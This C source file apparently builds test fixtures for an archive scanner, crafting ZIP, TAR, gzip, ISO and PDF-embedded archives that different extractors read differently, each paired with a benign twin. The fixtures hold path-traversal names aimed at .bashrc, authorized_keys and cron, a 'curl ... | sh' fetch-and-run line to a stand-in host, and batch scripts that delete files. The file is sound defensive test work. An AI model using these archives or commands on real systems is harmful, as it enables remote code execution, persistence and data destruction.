/*
 * readings.c - archives that real extractors read differently from one
 * another, each with its benign twin (issue: read every archive the way
 * every real extractor reads it).  Each trick takes one header; crible
 * must judge every reading, and the twin must stay as quiet as it is.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "samples.h"

#define T(s) s, sizeof(s) - 1

static const char note[] = "hello, this is a harmless note\n";
static const char eicar[] = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/* An end record for an empty directory that sits where the record is: every reader that trusts the last one sees nothing. */
static void fake_eocd(struct sbuf *b)
{
	uint32_t at = (uint32_t)b->len;
	sb_str(b, "PK\5\6");
	sb_u16le(b, 0);
	sb_u16le(b, 0);
	sb_u16le(b, 0);
	sb_u16le(b, 0);
	sb_u32le(b, 0);
	sb_u32le(b, at);
	sb_u16le(b, 0);
}

/* EICAR and ../../evil.txt, then a 22-byte end record of an empty archive: Info-ZIP and Python list nothing. */
void r_zip_fake_eocd(struct sbuf *b)
{
	static const struct zspec z[] = {{"../../evil.txt", NULL, T(note)}, {"eicar.com", NULL, T(eicar), 1}};
	zip_write(b, z, 2);
	fake_eocd(b);
}

/* The twin: a note and the same fake record: confusing (warn), nothing to block. */
void r_zip_fake_eocd_twin(struct sbuf *b)
{
	static const struct zspec z[] = {{"readme.txt", NULL, T(note)}};
	zip_write(b, z, 1);
	fake_eocd(b);
}

/* A stored local entry no directory lists, in front of an ordinary ZIP: streaming readers extract it. */
void r_zip_hidden_local(struct sbuf *b)
{
	struct sbuf pe = {0};
	sample_pe(&pe);
	sb_str(b, "PK\3\4");
	sb_u16le(b, 20);
	sb_u16le(b, 0);
	sb_u16le(b, 0);
	sb_u32le(b, 0x00210000);
	sb_u32le(b, sb_crc32(pe.p, pe.len));
	sb_u32le(b, (uint32_t)pe.len);
	sb_u32le(b, (uint32_t)pe.len);
	sb_u16le(b, 8);
	sb_u16le(b, 0);
	sb_str(b, "evil.exe");
	sb_put(b, pe.p, pe.len);
	sb_free(&pe);
	static const struct zspec z[] = {{"readme.txt", NULL, T(note)}};
	zip_write(b, z, 1);
}

/* The twin: entries whose sizes follow the data (bit 3, a descriptor), as streaming writers make them. */
void r_zip_descriptor(struct sbuf *b)
{
	const char *names[] = {"a.txt", "b/c.txt"};
	uint32_t off[2], crc = sb_crc32((const uint8_t *)note, sizeof note - 1);
	for (int i = 0; i < 2; i++) {
		off[i] = (uint32_t)b->len;
		sb_str(b, "PK\3\4");
		sb_u16le(b, 20);
		sb_u16le(b, 8);
		sb_u16le(b, 0);
		sb_u32le(b, 0x00210000);
		sb_u32le(b, 0);
		sb_u32le(b, 0);
		sb_u32le(b, 0);
		sb_u16le(b, (uint16_t)strlen(names[i]));
		sb_u16le(b, 0);
		sb_str(b, names[i]);
		sb_put(b, note, sizeof note - 1);
		sb_str(b, "PK\7\10");
		sb_u32le(b, crc);
		sb_u32le(b, sizeof note - 1);
		sb_u32le(b, sizeof note - 1);
	}
	uint32_t cd = (uint32_t)b->len;
	for (int i = 0; i < 2; i++) {
		sb_str(b, "PK\1\2");
		sb_u16le(b, 20);
		sb_u16le(b, 20);
		sb_u16le(b, 8);
		sb_u16le(b, 0);
		sb_u32le(b, 0x00210000);
		sb_u32le(b, crc);
		sb_u32le(b, sizeof note - 1);
		sb_u32le(b, sizeof note - 1);
		sb_u16le(b, (uint16_t)strlen(names[i]));
		sb_u16le(b, 0);
		sb_u16le(b, 0);
		sb_u16le(b, 0);
		sb_u16le(b, 0);
		sb_u32le(b, 0);
		sb_u32le(b, off[i]);
		sb_str(b, names[i]);
	}
	uint32_t cdsize = (uint32_t)b->len - cd;
	sb_str(b, "PK\5\6");
	sb_u32le(b, 0);
	sb_u16le(b, 2);
	sb_u16le(b, 2);
	sb_u32le(b, cdsize);
	sb_u32le(b, cd);
	sb_u16le(b, 0);
}

/* Sets the central directory's method of the first entry of a one-entry ZIP (the record after the data). */
static void cd_method(struct sbuf *b, uint16_t method)
{
	for (size_t i = 0; i + 12 <= b->len; i++)
		if (!memcmp(b->p + i, "PK\1\2", 4)) {
			b->p[i + 10] = (uint8_t)method;
			b->p[i + 11] = (uint8_t)(method >> 8);
			return;
		}
}

/* The directory says stored, the local header says deflated: a streaming reader inflates EICAR. */
void r_zip_method(struct sbuf *b)
{
	static const struct zspec z[] = {{"data.bin", NULL, T(eicar), 1}};
	zip_write(b, z, 1);
	cd_method(b, 0);
}

/* The twin: the same disagreement over a note (confusing, nothing to block). */
void r_zip_method_twin(struct sbuf *b)
{
	static const struct zspec z[] = {{"data.txt", NULL, T(note), 1}};
	zip_write(b, z, 1);
	cd_method(b, 0);
}

/* A "symlink" named run.bat: Python and Windows write its data, a batch script, as a file. */
void r_zip_symlink_bat(struct sbuf *b)
{
	static const struct zspec z[] = {{"run.bat", NULL, T("@echo off\r\nstart calc.exe\r\n"), 0, 0, 0120777}};
	zip_write(b, z, 1);
}

/* A Unix "directory" without a trailing slash that carries a program: Python writes a file. */
void r_zip_dir_data(struct sbuf *b)
{
	struct sbuf pe = {0};
	sample_pe(&pe);
	const struct zspec z[] = {{"setup", NULL, pe.p, pe.len, 0, 0, 0040755}};
	zip_write(b, z, 1);
	sb_free(&pe);
}

/* Two archives end to end: the one entry given, then readme.txt (the one the last end record shows). */
static void zip_then_readme(struct sbuf *b, const struct zspec *first)
{
	static const struct zspec z[] = {{"readme.txt", NULL, T(note)}};
	struct sbuf x = {0};
	zip_write(&x, first, 1);
	sb_put(b, x.p, x.len);
	sb_free(&x);
	zip_write(&x, z, 1);
	sb_put(b, x.p, x.len);
	sb_free(&x);
}

/* The first archive holds a traversal that only a streaming reader sees. */
void r_zip_concat(struct sbuf *b)
{
	static const struct zspec a[] = {{"../../evil.txt", NULL, T(note)}};
	zip_then_readme(b, a);
}

/* The twin: one archive of two notes. */
void r_zip_concat_twin(struct sbuf *b)
{
	static const struct zspec z[] = {{"a.txt", NULL, T(note)}, {"readme.txt", NULL, T(note)}};
	zip_write(b, z, 2);
}

/* A ZIP holding a stored ZIP (a JAR in a distribution): its end record lies inside the outer's data. */
static void zip_in_zip(struct sbuf *b, const char *inner_name)
{
	const struct zspec in[] = {{inner_name, NULL, T(note)}, {"readme.txt", NULL, T(note)}};
	struct sbuf x = {0};
	zip_write(&x, in, 2);
	const struct zspec out[] = {{"lib/inner.zip", NULL, x.p, x.len, 0}, {"notes.txt", NULL, T(note)}};
	zip_write(b, out, 2);
	sb_free(&x);
}

/* Benign: the inner archive holds two notes. */
void r_zip_nested_stored(struct sbuf *b) { zip_in_zip(b, "a.txt"); }

/* Hostile twin: the inner archive holds a traversal, judged where it is (in lib/inner.zip). */
void r_zip_nested_stored_evil(struct sbuf *b) { zip_in_zip(b, "../../evil.txt"); }

/*
 * A stored entry whose data is a ZIP written for the outer frame: its
 * directory and end record count offsets from the start of the file, not
 * of the entry.  Read from the outer file, that end record lists
 * ../../evil.txt at the right place; libzip, which weighs every end
 * record in the tail, can take it.  Walked as the entry's own archive the
 * offsets do not fit, so only the outer reading shows the traversal.
 */
void r_zip_stored_outer_dir(struct sbuf *b)
{
	static const char name[] = "data.bin";
	const size_t at = 30 + sizeof name - 1;	/* where the stored data starts in the outer file */
	const struct zspec in[] = {{"../../evil.txt", NULL, T(note)}};
	struct sbuf x = {0};
	zip_write(&x, in, 1);
	size_t eocd = x.len - 22;
	uint32_t cd = sb_get32le(x.p + eocd + 16);
	sb_set32le(x.p + cd + 42, sb_get32le(x.p + cd + 42) + (uint32_t)at);
	sb_set32le(x.p + eocd + 16, cd + (uint32_t)at);
	const struct zspec out[] = {{name, NULL, x.p, x.len, 0}, {"notes.txt", NULL, T(note)}};
	zip_write(b, out, 2);
	sb_free(&x);
}

/*
 * The first archive's directory names its entry run.bat while its local
 * header says notes.txt: streaming readers and the last end record never
 * show run.bat; a reader that takes the first end record writes it.
 */
static void concat_named(struct sbuf *b, const char *cdname)
{
	const struct zspec a[] = {{cdname, "notes.txt", T(note)}};
	zip_then_readme(b, a);
}

void r_zip_first_dir(struct sbuf *b) { concat_named(b, "run.bat"); }

/* The twin: the first directory agrees with its local header. */
void r_zip_first_dir_twin(struct sbuf *b) { concat_named(b, "notes.txt"); }

/* A name with no UTF-8 flag holding byte 0x9D: CP437 reads U+00A5, which Windows code page 932 turns into '\'. */
void r_zip_cp437_yen(struct sbuf *b)
{
	static const struct zspec z[] = {{"docs\x9d..\x9d..\x9dstartup.txt", NULL, T(note)}};
	zip_write(b, z, 1);
}

/* A .bat whose lines read as Python: cmd.exe runs it all the same. */
void r_bat_python(struct sbuf *b) { sb_str(b, "import os\nprint(os.getcwd())\n"); }

/* A name cut at its NUL by C extractors: "run.bat\0.txt" lands as run.bat. */
void r_zip_nul_name(struct sbuf *b)
{
	static const char name[] = "run.bat\0.txt";
	struct zspec z[] = {{"run.bat", NULL, T(note)}};
	/* zip_write takes C strings: write "run.batX.txt" and turn X into NUL in both headers. */
	z[0].name = "run.batX.txt";
	zip_write(b, z, 1);
	for (size_t i = 0; i + sizeof name - 1 <= b->len; i++)
		if (!memcmp(b->p + i, "run.batX.txt", sizeof name - 1))
			b->p[i + 7] = 0;
}

/* The twin: the same note as run.txt. */
void r_zip_nul_twin(struct sbuf *b)
{
	static const struct zspec z[] = {{"run.txt", NULL, T(note)}};
	zip_write(b, z, 1);
}

/* "run.bat." : Windows strips the dot and runs a batch file. */
void r_zip_trailing_bat(struct sbuf *b)
{
	static const struct zspec z[] = {{"run.bat.", NULL, T(note)}};
	zip_write(b, z, 1);
}

/* Plain prose: the twin of the extension rules ("setup.bat.txt" is a text file to Windows). */
void r_note(struct sbuf *b) { sb_str(b, note); }

/* --- TAR readings -------------------------------------------------------- */

static const char sh[] = "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n";

/*
 * One tar header: name, type, link, the POSIX prefix, the magic (6+2
 * bytes: "ustar\0" "00" or GNU "ustar  \0"), and the size field, which
 * may differ from the bytes that follow (len).
 */
static void th(struct sbuf *b, const char *name, char type, const char *link, const char *prefix, const char *magic,
	       unsigned size, const void *data, size_t len)
{
	tar_block(b, name, type, link, NULL, prefix, magic, size, data, len);
}

#define POSIX "ustar\00000"
#define GNU "ustar  \0"

/* A script behind the end marker: GNU tar --ignore-zeros extracts it. */
void r_tar_after_end(struct sbuf *b)
{
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	sb_zero(b, 1024);
	th(b, "../../.profile.d/evil.sh", '0', NULL, NULL, POSIX, sizeof sh - 1, T(sh));
	sb_zero(b, 1024);
}

/* The twin: the same note padded with zero blocks to 10 KiB, as tar writes it. */
void r_tar_padded(struct sbuf *b)
{
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	sb_zero(b, 10240 - b->len);
}

/* A damaged block, then a program: GNU tar skips to the next header and extracts it. */
void r_tar_resync(struct sbuf *b)
{
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	size_t at = b->len;
	th(b, "junk.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	b->p[at + 148] ^= 1;
	struct sbuf pe = {0};
	sample_pe(&pe);
	th(b, "setup.exe", '0', NULL, NULL, POSIX, (unsigned)pe.len, pe.p, pe.len);
	sb_free(&pe);
	sb_zero(b, 1024);
}

/* The twin: the same damage in front of a note (damaged, nothing to block). */
void r_tar_resync_twin(struct sbuf *b)
{
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	size_t at = b->len;
	th(b, "junk.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	b->p[at + 148] ^= 1;
	th(b, "notes.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	sb_zero(b, 1024);
}

/* A symlink whose size field covers a whole entry: readers that give links no data read that entry. */
void r_tar_link_size(struct sbuf *b)
{
	struct sbuf inner = {0};
	th(&inner, "../../escape.sh", '0', NULL, NULL, POSIX, sizeof sh - 1, T(sh));
	th(b, "link", '2', "readme.txt", NULL, POSIX, (unsigned)inner.len, inner.p, inner.len);
	sb_free(&inner);
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	sb_zero(b, 1024);
}

/* The twin: the same link with no size. */
void r_tar_link_twin(struct sbuf *b)
{
	th(b, "link", '2', "readme.txt", NULL, POSIX, 0, NULL, 0);
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	sb_zero(b, 1024);
}

/* A GNU long name and a pax path for one entry: Python takes the first header read, the others pax. */
static void pax_and_gnu(struct sbuf *b, const char *lname)
{
	th(b, "././@LongLink", 'L', NULL, NULL, GNU, (unsigned)strlen(lname) + 1, lname, strlen(lname) + 1);
	th(b, "PaxHeaders/x", 'x', NULL, NULL, POSIX, 18, "18 path=notes.txt\n", 18);
	th(b, "notes.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	sb_zero(b, 1024);
}

void r_tar_pax_gnu(struct sbuf *b) { pax_and_gnu(b, "../../.ssh/authorized_keys"); }

/* The twin: both say a harmless name. */
void r_tar_pax_gnu_twin(struct sbuf *b) { pax_and_gnu(b, "docs/notes-long-name.txt"); }

/* A prefix under the GNU magic: GNU readers ignore it, others join it: "../../etc" + "/" + name. */
void r_tar_gnu_prefix(struct sbuf *b)
{
	th(b, "cron.d/job", '0', NULL, "../../etc", GNU, sizeof note - 1, T(note));
	sb_zero(b, 1024);
}

/* The twin: a harmless prefix under the GNU magic. */
void r_tar_gnu_prefix_twin(struct sbuf *b)
{
	th(b, "cron.d/job.txt", '0', NULL, "docs", GNU, sizeof note - 1, T(note));
	sb_zero(b, 1024);
}

/* --- compressed streams --------------------------------------------------- */

/* A gzip member with FNAME, deflated with zlib. */
static void gz_named(struct sbuf *b, const char *fname, const void *data, size_t len)
{
	static const uint8_t hdr[10] = {0x1f, 0x8b, 8, 0x08, 0, 0, 0, 0, 0, 3};
	sb_put(b, hdr, sizeof hdr);
	sb_put(b, fname, strlen(fname) + 1);
	uint8_t *out;
	size_t n = deflate_raw(data, len, &out);
	sb_put(b, out, n);
	free(out);
	sb_u32le(b, sb_crc32(data, len));
	sb_u32le(b, (uint32_t)len);
}

/* "report.txt.gz" whose stored name is run.bat: gunzip -N and 7-Zip write a batch file. */
void r_gz_fname(struct sbuf *b) { gz_named(b, "run.bat", note, sizeof note - 1); }

/* The twin: the stored name agrees. */
void r_gz_fname_twin(struct sbuf *b) { gz_named(b, "report.txt", note, sizeof note - 1); }

/* --- links in the final tree --------------------------------------------- */

/* "up" -> "b/c/../.." stays inside while b/c is a directory; once "b/c" -> "." exists, it leads out. */
void r_tar_later_link(struct sbuf *b)
{
	th(b, "b/", '5', NULL, NULL, POSIX, 0, NULL, 0);
	th(b, "up", '2', "b/c/../..", NULL, POSIX, 0, NULL, 0);
	th(b, "b/c", '2', ".", NULL, POSIX, 0, NULL, 0);
	sb_zero(b, 1024);
}

/* The twin: "up" -> "b/c/.." stays inside either way. */
void r_tar_later_link_twin(struct sbuf *b)
{
	th(b, "b/", '5', NULL, NULL, POSIX, 0, NULL, 0);
	th(b, "up", '2', "b/c/..", NULL, POSIX, 0, NULL, 0);
	th(b, "b/c", '2', ".", NULL, POSIX, 0, NULL, 0);
	sb_zero(b, 1024);
}

/* A hard link to a symlink is the same symlink in another folder: "../../etc" read from the root. */
void r_tar_hardlink_symlink(struct sbuf *b)
{
	th(b, "a/b/", '5', NULL, NULL, POSIX, 0, NULL, 0);
	th(b, "a/b/etc", '2', "../../etc", NULL, POSIX, 0, NULL, 0);
	th(b, "etc", '1', "a/b/etc", NULL, POSIX, 0, NULL, 0);
	sb_zero(b, 1024);
}

/* The twin: a hard link to a file. */
void r_tar_hardlink_file(struct sbuf *b)
{
	th(b, "a/b/", '5', NULL, NULL, POSIX, 0, NULL, 0);
	th(b, "a/b/notes.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	th(b, "notes.txt", '1', "a/b/notes.txt", NULL, POSIX, 0, NULL, 0);
	sb_zero(b, 1024);
}

/*
 * A pax sparse 1.0 entry: the packed data opens with the map (decimal
 * lines padded to 512 bytes), so a reader that does not rebuild sees
 * text; GNU tar and bsdtar write the chunk at offset 0.
 */
static void sparse10(struct sbuf *b, const void *chunk, size_t clen)
{
	char map[512];
	memset(map, 0, sizeof map);
	int ml = snprintf(map, sizeof map, "1\n0\n%zu\n", clen);
	(void)ml;
	char pax[256];
	char rec[3][96];
	snprintf(rec[0], sizeof rec[0], "GNU.sparse.major=1\n");
	snprintf(rec[1], sizeof rec[1], "GNU.sparse.name=bin/tool\n");
	snprintf(rec[2], sizeof rec[2], "GNU.sparse.realsize=%zu\n", clen);
	size_t pl = 0;
	for (int i = 0; i < 3; i++) {
		size_t l = strlen(rec[i]) + 1;	/* the space */
		size_t n = l + 2;	/* two digits of length */
		pl += (size_t)snprintf(pax + pl, sizeof pax - pl, "%zu %s", n, rec[i]);
	}
	th(b, "PaxHeaders/tool", 'x', NULL, NULL, POSIX, (unsigned)pl, pax, pl);
	struct sbuf d = {0};
	sb_put(&d, map, sizeof map);
	sb_put(&d, chunk, clen);
	th(b, "GNUSparseFile.0/tool", '0', NULL, NULL, POSIX, (unsigned)d.len, d.p, d.len);
	sb_free(&d);
	sb_zero(b, 1024);
}

/* Builds fn's archive around an ELF program. */
static void with_elf(struct sbuf *b, void (*fn)(struct sbuf *, const void *, size_t))
{
	struct sbuf e = {0};
	sample_elf(&e);
	fn(b, e.p, e.len);
	sb_free(&e);
}

void r_tar_sparse_elf(struct sbuf *b) { with_elf(b, sparse10); }

void r_tar_sparse_note(struct sbuf *b) { sparse10(b, note, sizeof note - 1); }

/* The first header damaged: only GNU tar, skipping to the next header, extracts the script behind it. */
void r_tar_bad_first(struct sbuf *b)
{
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	b->p[148] ^= 1;
	th(b, "../../.bashrc", '0', NULL, NULL, POSIX, sizeof sh - 1, T(sh));
	sb_zero(b, 1024);
}

/* --- ISO 9660: Windows reads Joliet, Linux Rock Ridge, plain readers the primary names --- */

#define NOTE_FILE(p, r, j) {p, r, j, note, sizeof note - 1}

/* Linux lists notes.txt; Windows shows the same extent as notes.bat, and runs it. */
void r_iso_joliet_ext(struct sbuf *b)
{
	const struct isofile f[] = {NOTE_FILE("NOTES.TXT;1", "notes.txt", "notes.bat")};
	iso_write(b, f, 1, true, true);
}

/* The twin: the three trees agree. */
void r_iso_names_twin(struct sbuf *b)
{
	const struct isofile f[] = {NOTE_FILE("NOTES.TXT;1", "notes.txt", "notes.txt")};
	iso_write(b, f, 1, true, true);
}

/* A reader without Rock Ridge or Joliet writes RUN.BAT where the others write readme.txt. */
void r_iso_primary_ext(struct sbuf *b)
{
	const struct isofile f[] = {NOTE_FILE("RUN.BAT;1", "readme.txt", "readme.txt")};
	iso_write(b, f, 1, true, true);
}

/* A program only in the Joliet tree: no Linux lister shows it, Windows does. */
void r_iso_joliet_only(struct sbuf *b)
{
	struct sbuf pe = {0};
	sample_pe(&pe);
	const struct isofile f[] = {NOTE_FILE("README.TXT;1", "readme.txt", "readme.txt"),
				    {NULL, NULL, "setup.exe", pe.p, pe.len}};
	iso_write(b, f, 2, true, true);
	sb_free(&pe);
}

/* The twin: the second file, a note, is only in the Joliet tree too. */
void r_iso_joliet_only_twin(struct sbuf *b)
{
	const struct isofile f[] = {NOTE_FILE("README.TXT;1", "readme.txt", "readme.txt"),
				    NOTE_FILE(NULL, NULL, "more.txt")};
	iso_write(b, f, 2, true, true);
}

/*
 * A GNU continuation header ('M', "the rest of a file from the previous
 * volume") holding a script: GNU tar refuses it, Python and bsdtar write
 * it as a regular file.
 */
void r_tar_gnu_continued(struct sbuf *b)
{
	th(b, "readme.txt", '0', NULL, NULL, GNU, sizeof note - 1, T(note));
	th(b, "install.sh", 'M', NULL, NULL, GNU, sizeof sh - 1, T(sh));
	sb_zero(b, 1024);
}

/* The twin: a volume label ('V'), which Python writes as an empty file. */
void r_tar_gnu_label(struct sbuf *b)
{
	th(b, "backup 2026-11-29", 'V', NULL, NULL, GNU, 0, NULL, 0);
	th(b, "readme.txt", '0', NULL, NULL, GNU, sizeof note - 1, T(note));
	sb_zero(b, 1024);
}

/*
 * A pax record "path=" in an extended header of the given type ahead of
 * readme.txt: Solaris 'X' (libarchive and Python read it as 'x'), or a
 * global 'g' (GNU tar and Python name the next entries by it).
 */
static void pax_path_before(struct sbuf *b, char type, const char *hname, const char *path)
{
	char rec[128];
	/* The record's length counts its own two digits (every path here is short). */
	int len = (int)strlen(path) + (int)strlen(" path=\n") + 2;
	snprintf(rec, sizeof rec, "%d path=%s\n", len, path);
	th(b, hname, type, NULL, NULL, POSIX, (unsigned)len, rec, (size_t)len);
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	sb_zero(b, 1024);
}

void r_tar_solaris_x(struct sbuf *b) { pax_path_before(b, 'X', "SolarisHeaders/readme.txt", "../../.profile"); }
void r_tar_solaris_x_twin(struct sbuf *b) { pax_path_before(b, 'X', "SolarisHeaders/readme.txt", "docs/readme.txt"); }

/*
 * A PDF with a ZIP inside whose end record is gone: no end record, no
 * directory, but 7-Zip finds the local header within its first 8 MiB and
 * extracts the entry.
 */
static void pdf_with_zip(struct sbuf *b, const char *name, const char *text)
{
	sb_str(b, "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
		  "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n");
	const struct zspec z[] = {{name, NULL, text, strlen(text)}};
	struct sbuf x = {0};
	zip_write(&x, z, 1);
	/* Everything from the central directory on is cut: only the local header and data stay. */
	size_t keep = 30 + strlen(name) + strlen(text);
	sb_put(b, x.p, keep);
	sb_free(&x);
	sb_str(b, "\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
}

void r_pdf_zip(struct sbuf *b) { pdf_with_zip(b, "run.bat", "@echo off\r\ndel /q %USERPROFILE%\\Documents\r\n"); }
void r_pdf_zip_twin(struct sbuf *b) { pdf_with_zip(b, "notes.txt", note); }

/*
 * An Info-ZIP Unicode Path extra (0x7075: version 1, CRC-32 of the
 * header's name, the UTF-8 name) only in the local header: the central
 * directory says name, streaming readers write upath.
 */
static void zip_local_upath(struct sbuf *b, const char *name, const char *upath)
{
	size_t nl = strlen(name), ul = strlen(upath), dl = sizeof note - 1;
	uint32_t crc = sb_crc32((const uint8_t *)note, dl);
	for (int cd = 0; cd < 2; cd++) {
		sb_str(b, cd ? "PK\1\2" : "PK\3\4");
		if (cd)
			sb_u16le(b, 0x0014);	/* made by */
		sb_u16le(b, 20);
		sb_u16le(b, 0);
		sb_u16le(b, 0);		/* stored */
		sb_u16le(b, 0);
		sb_u16le(b, 0x21);
		sb_u32le(b, crc);
		sb_u32le(b, (uint32_t)dl);
		sb_u32le(b, (uint32_t)dl);
		sb_u16le(b, (uint16_t)nl);
		sb_u16le(b, cd ? 0 : (uint16_t)(4 + 5 + ul));
		if (cd) {
			sb_zero(b, 2 + 2 + 2 + 4);	/* comment, disk, internal and external attributes */
			sb_u32le(b, 0);		/* the local header's offset */
		}
		sb_str(b, name);
		if (!cd) {
			sb_u16le(b, 0x7075);
			sb_u16le(b, (uint16_t)(5 + ul));
			sb_u8(b, 1);
			sb_u32le(b, sb_crc32((const uint8_t *)name, nl));
			sb_str(b, upath);
			sb_put(b, note, dl);
		}
	}
	size_t cdoff = 30 + nl + 9 + ul + dl, cdsize = b->len - cdoff;
	sb_str(b, "PK\5\6");
	sb_zero(b, 4);
	sb_u16le(b, 1);
	sb_u16le(b, 1);
	sb_u32le(b, (uint32_t)cdsize);
	sb_u32le(b, (uint32_t)cdoff);
	sb_u16le(b, 0);
}

void r_zip_local_upath(struct sbuf *b) { zip_local_upath(b, "notes.txt", "notes.bat"); }
void r_zip_local_upath_twin(struct sbuf *b) { zip_local_upath(b, "notes.txt", "notes.txt"); }

/* Rewrites the size field of the header at hdr to `field` (12 bytes) and its checksum. */
static void tar_size_field(struct sbuf *b, size_t hdr, const char field[12])
{
	memcpy(b->p + hdr + 124, field, 12);
	tar_checksum(b->p + hdr);
}

/* A size field with a byte after its digits: libarchive reads the digits, GNU tar skips the header, Python stops. */
static void tar_octal(struct sbuf *b, const char *name, const char *body, size_t len)
{
	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
	size_t at = b->len;
	th(b, name, '0', NULL, NULL, POSIX, (unsigned)len, body, len);
	char field[13];
	snprintf(field, sizeof field, "%010ox", (unsigned)len);
	tar_size_field(b, at, field);
	sb_zero(b, 1024);
}

void r_tar_octal(struct sbuf *b) { tar_octal(b, "install.sh", sh, sizeof sh - 1); }
void r_tar_octal_twin(struct sbuf *b) { tar_octal(b, "notes.txt", note, sizeof note - 1); }

void r_tar_pax_global(struct sbuf *b) { pax_path_before(b, 'g', "pax_global_header", "../../evil.txt"); }
void r_tar_pax_global_twin(struct sbuf *b) { pax_path_before(b, 'g', "pax_global_header", "docs/readme.txt"); }

/* A GNU dumpdir ('D') named run.bat carrying a batch script: Python writes it as a file. */
void r_tar_dumpdir(struct sbuf *b)
{
	static const char bat[] = "@echo off\r\ndel /q *\r\n";
	th(b, "run.bat", 'D', NULL, NULL, GNU, sizeof bat - 1, T(bat));
	sb_zero(b, 1024);
}

/* The twin: a dumpdir as GNU tar writes it, names each after a 'Y' and a NUL. */
void r_tar_dumpdir_twin(struct sbuf *b)
{
	static const char list[] = "Yreadme.txt\0Ynotes.txt\0\0";
	th(b, "docs", 'D', NULL, NULL, GNU, sizeof list - 1, list, sizeof list - 1);
	sb_zero(b, 1024);
}

/*
 * An old GNU sparse entry ('S') whose map lists the chunk that goes at
 * offset `len` first and the one at 0 second: the packed data opens with
 * the filler, and GNU tar and bsdtar write `body` back at offset 0.
 */
static void sparse_out_of_order(struct sbuf *b, const void *body, size_t len)
{
	static const char filler[512] = "filler";
	struct sbuf d = {0};
	sb_put(&d, filler, sizeof filler);
	sb_put(&d, body, len);
	size_t at = b->len;
	th(b, "tool", 'S', NULL, NULL, GNU, (unsigned)d.len, d.p, d.len);
	char *h = (char *)b->p + at;
	/* Map at 386: (offset, numbytes) twice, 12 octal bytes each; real size at 483. */
	snprintf(h + 386, 12, "%011o", (unsigned)len);
	snprintf(h + 398, 12, "%011o", (unsigned)sizeof filler);
	snprintf(h + 410, 12, "%011o", 0u);
	snprintf(h + 422, 12, "%011o", (unsigned)len);
	snprintf(h + 483, 12, "%011o", (unsigned)(len + sizeof filler));
	tar_checksum(b->p + at);
	sb_free(&d);
	sb_zero(b, 1024);
}

void r_tar_sparse_order(struct sbuf *b) { with_elf(b, sparse_out_of_order); }

void r_tar_sparse_order_twin(struct sbuf *b) { sparse_out_of_order(b, note, sizeof note - 1); }

/* A symlink whose GNU long link name ('K') leads out: GNU tar, bsdtar and Python take the long name. */
static void long_link(struct sbuf *b, const char *target)
{
	th(b, "././@LongLink", 'K', NULL, NULL, GNU, (unsigned)strlen(target) + 1, target, strlen(target) + 1);
	th(b, "config", '2', "short", NULL, GNU, 0, NULL, 0);
	sb_zero(b, 1024);
}

void r_tar_long_link(struct sbuf *b) { long_link(b, "../../../../etc/cron.d/job"); }
void r_tar_long_link_twin(struct sbuf *b) { long_link(b, "docs/config.sample"); }

/*
 * A malformed size covering only the next header: bsdtar reads 512 bytes
 * of data and stops at the script's bytes; GNU tar skips the header and
 * extracts the entry behind it.
 */
static void tar_octal_hiding(struct sbuf *b, const char *name, const char *body, size_t len)
{
	size_t at = b->len;
	th(b, "notes.txt", '0', NULL, NULL, POSIX, 512, NULL, 0);
	tar_size_field(b, at, "0000001000x");
	th(b, name, '0', NULL, NULL, POSIX, (unsigned)len, body, len);
	sb_zero(b, 1024);
}

void r_tar_octal_hiding(struct sbuf *b) { tar_octal_hiding(b, "install.sh", sh, sizeof sh - 1); }
void r_tar_octal_hiding_twin(struct sbuf *b) { tar_octal_hiding(b, "more.txt", note, sizeof note - 1); }
